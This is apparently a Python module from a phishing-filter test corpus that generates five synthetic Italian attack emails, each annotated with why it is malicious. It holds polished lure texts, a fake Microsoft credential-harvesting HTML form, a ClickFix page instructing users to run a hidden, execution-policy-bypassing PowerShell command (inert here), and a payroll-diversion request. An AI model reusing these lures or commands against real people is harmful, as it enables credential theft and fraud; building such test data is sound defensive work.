"""Italian attack messages (17-21)."""
import base64

from common import *  # noqa
from banking import it_iban, spaced
from providers import libero, vps_postfix
from routes import Webmail, OutlookSMTP, hop_aruba, roundcube, hop_postfix_sub, ORDER_PHP
from util import rfcdate, ALNUM

MESSAGES = []


def aruba_client(c, n):
    return ('smtpcmd%04d.aruba.it' % n, 'smtpcmd%04d.aruba.it' % n, '62.149.156.%d' % (n - 800))


# ------------------------------------------------------------------ 17 thread hijack, compromised Ferretti mailbox, encrypted ZIP
q17 = outlook_reply_header('it', 'Marco Bianchi <marco.bianchi@example.com>', 'martedì 13 ottobre 2026 16:40',
                           'Chiara Colombo <c.colombo@ferretti-trasporti.it>',
                           'Conferma ritiro 14/10 Bremerhaven - Genova') + """

Ciao Chiara,

confermo il ritiro di domani a Bremerhaven (Example Group, rampa 4, dalle 07:00): 22 pallet di filetti di merluzzo surgelati, temperatura -20 °C, destinazione il nostro magazzino di Genova.
Mi mandi poi CMR firmato e DDT?

Grazie, Marco"""
t17 = """Buongiorno Marco,

come da accordi ti invio CMR firmato e DDT della consegna di ieri, più il verbale dell'autista per la differenza di temperatura rilevata allo scarico.

Per motivi di privacy i documenti sono in archivio protetto, password: FT4471

Fammi sapere se è tutto ok.

Cordiali saluti

Chiara Colombo
Ufficio Traffico
Ferretti Trasporti S.p.A.

""" + q17
zip17 = zip_bytes([('CMR_4471_firmato.js', PLACEHOLDER), ('DDT_4471_verbale.pdf.lnk', PLACEHOLDER)],
                  when=(2026, 10, 16, 10, 11, 40), password='FT4471', seed='17it')


class ArubaStolen(Webmail):
    def __init__(self):
        Webmail.__init__(self, aruba_client(None, 871),
                         [hop_aruba('[127.0.0.1]', '194.26.29.114')],
                         lambda c: '<%s.%s@ferretti-trasporti.it>' % (c.t.strftime('%Y%m%d%H%M%S'), c.hx('m', 12).upper()),
                         order=ORDER_PHP, ctstyle='generic', hdr_cs='utf-8', hdr_enc='B',
                         bnd=lambda c, n: '----=_Part_%s' % c.hx('b%d' % n, 20))


MESSAGES.append(dict(
    slug='ferretti-thread-hijack-zip-password',
    frm=('Chiara Colombo', 'c.colombo@ferretti-trasporti.it'), to=[S['mgr_it']],
    subject='R: Conferma ritiro 14/10 Bremerhaven - Genova',
    date='2026-10-16 10:12:05', zone='IT',
    in_reply_to='<6b0e4d2a9f1c47e3a8d5b2c1e0f9a7d3@HQ-EXCH02.ad.example.com>',
    via=ArubaStolen(),
    body=mixed(Text(t17, 'utf-8', 'base64'), Att('CMR_DDT_4471.zip', 'application/zip', zip17)),
    zip_password='FT4471',
    what='Thread hijack from the compromised mailbox of Ferretti\'s traffic clerk: replies to the real pickup thread with an encrypted ZIP ("privacy") containing a .js and a .lnk disguised as CMR/DDT.',
    why='Sent through Ferretti\'s genuine Aruba account but from a foreign IP (194.26.29.114) with a non-Outlook client, password-protected archive with script/shortcut, unlike Ferretti\'s normal plain-PDF documents (Emotet/Qakbot-style reply-chain attack).',
    tech=['thread hijack from compromised partner mailbox', 'password-protected archive (ZipCrypto)', 'malware lure: script / LNK in archive'],
))

# ------------------------------------------------------------------ 18 Agenzia delle Entrate (SPID phishing)
u18 = 'https://agenziaentrate-cassettofiscale.it/portale/comunicazioni?prot=2026-GE-0048812&acc=spid'
t18 = """Agenzia delle Entrate
Direzione Provinciale di Genova - Ufficio Controlli

Oggetto: Comunicazione ai sensi dell'art. 54-bis del D.P.R. n. 633/1972 - Liquidazione periodica IVA III trimestre 2026
Protocollo n. 2026-GE-0048812

Gentile Contribuente,

dal controllo automatizzato delle comunicazioni delle liquidazioni periodiche IVA (LIPE) trasmesse per il III trimestre 2026 è emersa un'incongruenza tra l'imposta dovuta e i versamenti effettuati con modello F24, per un importo complessivo di euro 4.812,37.

Può consultare il dettaglio della comunicazione e regolarizzare la posizione, beneficiando della riduzione delle sanzioni a un terzo, accedendo al Suo Cassetto fiscale entro 30 giorni dal ricevimento della presente:

{u}

L'accesso è consentito con SPID, CIE o CNS.

Decorso tale termine, la comunicazione si intende definitiva e si procederà all'iscrizione a ruolo delle somme dovute, maggiorate di sanzioni e interessi.

Distinti saluti

Agenzia delle Entrate
Direzione Provinciale di Genova

Messaggio generato automaticamente, si prega di non rispondere.""".format(u=u18)
h18 = h_notice('iso-8859-15', 'Comunicazione di irregolarità - Liquidazione IVA III trimestre 2026', [
    'Protocollo n. 2026-GE-0048812',
    'Gentile Contribuente,',
    'dal controllo automatizzato delle comunicazioni delle liquidazioni periodiche IVA (LIPE) trasmesse per il III trimestre 2026 è emersa un\'incongruenza tra l\'imposta dovuta e i versamenti effettuati con modello F24, per un importo complessivo di <b>euro 4.812,37</b>.',
    'Può consultare il dettaglio della comunicazione e regolarizzare la posizione, beneficiando della riduzione delle sanzioni a un terzo, accedendo al Suo Cassetto fiscale entro 30 giorni dal ricevimento della presente.'],
    button=('Accedi al Cassetto fiscale', u18), color='#0066cc', brand='Agenzia delle Entrate', lang='it',
    after=['L\'accesso è consentito con SPID, CIE o CNS.',
           'Decorso tale termine, la comunicazione si intende definitiva e si procederà all\'iscrizione a ruolo delle somme dovute, maggiorate di sanzioni e interessi.'],
    footer='Agenzia delle Entrate - Direzione Provinciale di Genova<br>Messaggio generato automaticamente, si prega di non rispondere.')
MESSAGES.append(dict(
    slug='agenzia-entrate-lipe-spid',
    frm=('Agenzia delle Entrate', 'comunicazioni@agenziaentrate-avvisi.it'),
    to=[S['acc_it']], subject='Comunicazione di irregolarità art. 54-bis - Liquidazione IVA III trim. 2026 - Prot. 2026-GE-0048812',
    date='2026-11-03 08:17:29', zone='IT',
    via=vps_postfix('mail.agenziaentrate-avvisi.it', 'vmi2231147.contaboserver.net', '173.212.217.94',
                    client='Thunderbird', zone='IT', user_ip='5.181.80.12'),
    body=alt(Text(t18, 'iso-8859-15', 'quoted-printable'), Text(h18, 'iso-8859-15', 'quoted-printable', 'html')),
    what='Tax-office phishing: fake Agenzia delle Entrate irregularity notice on the quarterly VAT settlement, links to a fake "Cassetto fiscale" asking for SPID/CIE credentials.',
    why='Agenzia delle Entrate sends such notices by PEC or in the Cassetto fiscale, never by ordinary mail from agenziaentrate-avvisi.it; look-alike domain on a Contabo VPS, SPID credential harvesting, penalty pressure.',
    tech=['credential phishing: national tax office (SPID)', 'look-alike domain', 'VPS infrastructure'],
))

# ------------------------------------------------------------------ 19 invoice HTML attachment with credential form (compromised Aruba webmail)
html19 = """<!DOCTYPE html>
<html lang="it"><head><meta charset="utf-8"><title>Fattura 118/26 - Documento protetto</title>
<style>body{margin:0;font-family:Segoe UI,Arial,sans-serif;background:#e9e9e9}
.doc{filter:blur(3px);width:640px;margin:30px auto;background:#fff;padding:40px;color:#333}
.ov{position:fixed;top:0;left:0;right:0;bottom:0;background:rgba(0,0,0,.35)}
.box{position:fixed;top:18%;left:50%;margin-left:-190px;width:340px;background:#fff;padding:32px;box-shadow:0 2px 12px #555}
input{width:100%;padding:8px 4px;border:0;border-bottom:1px solid #666;margin:10px 0;font-size:15px}
button{background:#0067b8;color:#fff;border:0;padding:9px 30px;font-size:15px;float:right}</style></head>
<body><div class="doc"><h2>FATTURA N. 118/26</h2><p>Data 27/10/2026 - Fornitura materiale di consumo ottobre 2026</p>
<p>Imponibile 3.940,00 - IVA 22% 866,80 - Totale 4.806,80</p><p>Pagamento: bonifico 30 gg d.f.</p></div>
<div class="ov"></div><div class="box"><div style="font-size:20px;font-weight:600">Microsoft</div>
<p style="font-size:22px;margin:16px 0 6px 0">Accedi per visualizzare il documento</p>
<p style="font-size:13px">Il file condiviso <b>Fattura_118_26.pdf</b> è protetto. Verifica la tua identità con l'account aziendale.</p>
<form method="post" action="https://fattura-118-26-docs.web.app/api/v1/verify">
<input type="email" name="login" placeholder="Indirizzo e-mail aziendale">
<input type="password" name="passwd" placeholder="Password">
<button type="submit">Accedi</button></form></div></body></html>
"""
t19 = """Buongiorno,

in allegato trasmettiamo copia di cortesia della fattura n. 118/26 del 27/10/2026 relativa alla fornitura di ottobre.

Il documento è protetto: per visualizzarlo è sufficiente accedere con le credenziali aziendali.

Restiamo a disposizione per qualsiasi chiarimento.

Cordiali saluti

Amministrazione
Studio Tecnico Pellegrini
Via XX Settembre 41/3 - 16121 Genova"""
MESSAGES.append(dict(
    slug='fattura-html-allegato-login',
    frm=('Amministrazione Studio Pellegrini', 'amministrazione@studiopellegrini-ge.it'),
    to=[S['acc_it']], subject='Invio fattura n. 118/26 - copia di cortesia',
    date='2026-10-28 12:44:51', zone='IT',
    via=roundcube(aruba_client(None, 904), [hop_aruba('webmail-ng.aruba.it', '102.220.22.45')], 'studiopellegrini-ge.it', ver='1.6.7'),
    body=mixed(Text(t19, 'UTF-8', 'quoted-printable'),
               Att('Fattura_118_26.html', 'text/html', html19.encode('utf-8'), charset='UTF-8')),
    what='Invoice-themed credential phishing from a compromised Genoese architecture office\'s Aruba webmail: HTML attachment shows a blurred invoice behind a fake Microsoft sign-in form.',
    why='No business relationship with the sender, "invoice" delivered as HTML file that asks for company credentials and posts them to a Firebase-hosted web.app endpoint; webmail session from an African IP.',
    tech=['HTML attachment (credential form)', 'credential phishing: Microsoft 365', 'compromised small-business mailbox', 'abused genuine service (Firebase hosting)'],
))

# ------------------------------------------------------------------ 20 ClickFix HTML attachment, PEC-themed complaint
cmd20 = 'powershell -w h -nop -ep bypass -enc ' + base64.b64encode(
    '# inert placeholder for filter evaluation - no action'.encode('utf-16-le')).decode()
html20 = """<!DOCTYPE html>
<html lang="it"><head><meta charset="utf-8"><title>Verbale reclamo lotto 26-1187 - PEC</title>
<style>body{font-family:Arial,sans-serif;background:#f2f2f2;margin:0}
.bar{background:#003366;color:#fff;padding:12px 22px;font-size:16px}
.card{width:560px;margin:36px auto;background:#fff;padding:28px;border-top:4px solid #c00}
code{display:block;background:#f6f6f6;border:1px solid #ccc;padding:10px;font-size:12px;word-break:break-all}
ol li{margin:8px 0}</style></head>
<body><div class="bar">Posta Elettronica Certificata &middot; Visualizzatore documenti</div>
<div class="card"><h3 style="margin-top:0">Impossibile aprire il documento firmato</h3>
<p>Il file <b>Verbale_reclamo_lotto_26-1187.pdf.p7m</b> richiede la verifica della firma digitale. Il componente di verifica non è installato su questo computer.</p>
<p><b>Per visualizzare il documento:</b></p>
<ol><li>Premi <b>Windows + R</b></li><li>Incolla il codice di verifica qui sotto (<b>Ctrl + V</b>)</li><li>Premi <b>Invio</b> e ricarica questa pagina</li></ol>
<p>Codice di verifica:</p><code>%s</code>
<p style="font-size:11px;color:#777">ID verifica: PEC-26-1187-A4F2 &middot; Servizio conforme al Regolamento eIDAS</p></div></body></html>
""" % cmd20
t20 = """POSTA CERTIFICATA: Reclamo formale - lotto calamari 26-1187

Spett.le Example Group Italia S.r.l.,

con la presente Vi trasmettiamo reclamo formale relativo al lotto 26-1187 (calamari patagonici interi congelati, consegna del 06/11/2026, DDT n. 2611/88), per non conformità rilevata in sede di controllo ufficiale ASL al momento dello scarico.

In allegato il verbale di contestazione firmato digitalmente. Vi chiediamo di prenderne visione e di comunicarci entro 48 ore le modalità di ritiro della merce non conforme.

Distinti saluti

Ufficio Qualità
Ittica Tirrena S.r.l.
Lungomare Vespucci 114 - 57128 Livorno"""
MESSAGES.append(dict(
    slug='pec-reclamo-clickfix',
    frm=('Ittica Tirrena - Ufficio Qualità', 'qualita@itticatirrena.it'),
    to=[S['mgr_it']], cc=[S['qa']],
    subject='POSTA CERTIFICATA: Reclamo formale - lotto calamari 26-1187',
    date='2026-11-09 09:38:14', zone='IT',
    via=OutlookSMTP(('authsmtp21.register.it', 'authsmtp21.register.it', '195.110.124.21'),
                    [hop_postfix_sub('[192.168.1.33]', 'host-79-50-113-7.business.telecomitalia.it', '79.50.113.7',
                                     'authsmtp21.register.it', 'IT')],
                    lang='it', hdr_cs='iso-8859-1', mailer='Microsoft Outlook 16.0'),
    body=mixed(alt(Text(t20, 'windows-1252', 'quoted-printable'), Text(h_outlook(t20, 'windows-1252', 'IT'), 'windows-1252', 'quoted-printable', 'html')),
               Att('Verbale_reclamo_lotto_26-1187.html', 'text/html', html20.encode('utf-8'), charset='UTF-8')),
    what='ClickFix: PEC-styled quality complaint about a squid lot; the HTML "signed report" claims a missing signature-verification component and tells the user to paste a PowerShell command into Win+R.',
    why='Fake PEC (a real PEC arrives as postacert.eml with daticert.xml, not as HTML), unknown "customer" on a compromised account, instructions to run an encoded PowerShell command (here decodes only to a comment) - the ClickFix pattern.',
    tech=['ClickFix (paste-and-run PowerShell)', 'HTML attachment', 'customer complaint pretext', 'compromised small-business mailbox'],
))

# ------------------------------------------------------------------ 21 payroll diversion from look-alike private mail
IBAN21 = it_iban('03268', '22300', '052873412190')
t21 = """Ciao Giulia,

ho cambiato banca la settimana scorsa (sono passato a un conto online, la filiale vecchia chiude). Riesci ad aggiornare l'IBAN per lo stipendio di novembre prima che mandiate i dati allo studio per le buste paga?

Nuovo IBAN: {iban}
Intestatario: Marco Bianchi

Ti scrivo dalla mail personale perché dal telefono non riesco ad accedere a Outlook. Oggi sono tutto il giorno dal cliente ad Ancona, quindi non serve che mi chiami, basta una conferma qui quando è fatto.

Grazie mille!
Marco""".format(iban=spaced(IBAN21))
MESSAGES.append(dict(
    slug='payroll-diversion-libero',
    frm=('Marco Bianchi', 'marco.bianchi.ge@libero.it'), to=[S['acc_it']],
    subject='IBAN stipendio novembre',
    date='2026-11-19 08:02:47', zone='IT',
    via=libero('93.66.102.44'),
    body=Text(t21, 'UTF-8', 'quoted-printable'),
    what='Payroll diversion: "Marco Bianchi" (office manager Italy) asks the accountant from a libero.it address to change his salary IBAN before the November payroll.',
    why='Impersonates a colleague from a private address that differs from his real one (marco.bianchi71@libero.it), new online-bank account, "don\'t call me", timed before the payroll cut-off - standard payroll-diversion BEC.',
    tech=['BEC / payroll diversion', 'free-mail display-name spoof (libero.it)'],
))
